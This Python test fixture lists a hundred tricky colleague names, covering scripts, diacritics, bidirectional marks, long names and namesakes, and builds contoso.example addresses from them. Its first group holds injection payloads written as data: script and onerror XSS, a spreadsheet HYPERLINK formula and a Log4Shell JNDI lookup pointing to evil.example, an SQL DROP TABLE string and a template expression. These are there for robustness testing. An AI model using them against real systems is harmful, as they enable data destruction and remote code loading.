"""A hundred colleagues whose names and addresses are as awkward as people's are, or as an attacker makes them."""
# ruff: noqa: RUF001 - letters that look like others are what it is about

import re
import unicodedata

COLLEAGUES = (
    # Markup, formulas, quotes and separators, which pages, CSV files and queries must survive.
    "<b>Bold</b> Bertha",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "&lt;Already&gt; Escaped",
    "=HYPERLINK('https://evil.example';'Click')",
    "+49 Phone Number",
    "-Minus Sign",
    "@sum(A1) Excel",
    '"Quoted" Quentin',
    "Back\\slash Benny",
    "Semi;colon Selma",
    "Comma, Connie",
    "Percent %41 Percy",
    "Robert'); DROP TABLE Seats;--",
    "{{7*7}} Template",
    "${jndi:ldap://evil.example} Log",
    "Smith & Sons Reception",
    "#1 Hashtag",
    # Directions, joiners and letters beyond the first plane.
    "\u202eEkaf Redro\u202c",
    "Zero\u200bWidth Zoe",
    "محمد الفاتح",
    "יעל כהן",
    "Amina \u2067نور\u2069 Haddad",
    "Renée 🦊 Fox",
    "🧑‍🚀 Astrid Space",
    "𝔉raktur Fritz",
    "李四(David Li)",
    "山田 太郎",
    "김민준",
    "Συλβία Παπαδοπούλου",
    "Ольга Кузнецова",
    "अनिल कुमार",
    "สมชาย ใจดี",
    # Two letters for one, marks that stand apart, letters whose case is not simple.
    "Jürgen Müßig",
    "Jo\u0308rg Ko\u0308nig",
    "Käthe Größer",
    "Åsa Öberg",
    "Søren Kierkegård",
    "Łukasz Żółć",
    "İpek Yılmaz",
    "Đặng Thị Minh Khai",
    "Þórunn Ægisdóttir",
    "François Lefèvre",
    "Núria Vilà i Güell",
    "Çağla Şahin",
    "Ștefan Țepeș",
    "Ľudmila Ďurišová",
    "Ŝarlatano Ĝentila",
    # Apostrophes, hyphens, particles, initials, one word, very many.
    "Zoë O'Brien",
    "Seán Ó Súilleabháin",
    "D'Arcy M'Benga",
    "Anne-Marie Sainte-Beuve",
    "Ludwig van der Rohe",
    "Dr. Dr. h.c. Konstantin von und zu Hohenlohe-Waldenburg-Schillingsfürst",
    "J. R. R. Initials",
    "MacKenzie McDonald",
    "Suharto",
    "Xi",
    "Ng",
    "Pablo Diego José Francisco de Paula Juan Nepomuceno María de los Remedios Cipriano de la Santísima Trinidad",
    "X" * 256,
    "Null Null",
    "None",
    "True False",
    "12345",
    "Team-Mailbox_2",
    "helloWorld123 Camel",
    # Namesakes, whom only an address tells apart.
    "Anna Schmidt",
    "Anna Schmidt",
    "Ann Schmidt",
    "Hannah Schmitt",
    "Bob Bee",
    "Alicia Adams",
    "Alistair Alba",
    "Bobby Beecham",
    "Carolina Seabrook",
    # And those who are as people are in examples.
    "Adele Vance",
    "Benedetta Conti",
    "Chiara Ricci",
    "Diego Fernández",
    "Emma Novák",
    "Fatima Zahra",
    "Grace Okafor",
    "Henrik Larsen",
    "Isabella Moreau",
    "Jonas Weber",
    "Katarzyna Nowak",
    "Liam Murphy",
    "Mateo Silva",
    "Nadia Rahman",
    "Olivia Taylor",
    "Priya Sharma",
    "Quinn Harper",
    "Rosa Jiménez",
    "Sofia Rossi",
    "Tomáš Dvořák",
    "Ulrike Bauer",
    "Viktor Petrov",
    "Wanjiru Kamau",
    "Yusuf Demir",
)

# Addresses that are right and yet surprise, by the name of whose they are.
_SURPRISING = {
    "Zoë O'Brien": "Zoe.O'Brien@Contoso.example",
    "Smith & Sons Reception": "smith+sons&co@contoso.example",
    "Dr. Dr. h.c. Konstantin von und zu Hohenlohe-Waldenburg-Schillingsfürst": "K.HOHENLOHE@CONTOSO.EXAMPLE",
}


def address(name: str, number: int) -> str:
    """Made of the name's plain letters, and of the number where there are none or too many."""
    if name in _SURPRISING:
        return _SURPRISING[name]
    plain = unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode().lower()
    words = re.findall(r"[a-z0-9]+", plain)
    local = ".".join(words)[:40].rstrip(".")
    return f"{local}.{number}@contoso.example" if local else f"user{number}@contoso.example"
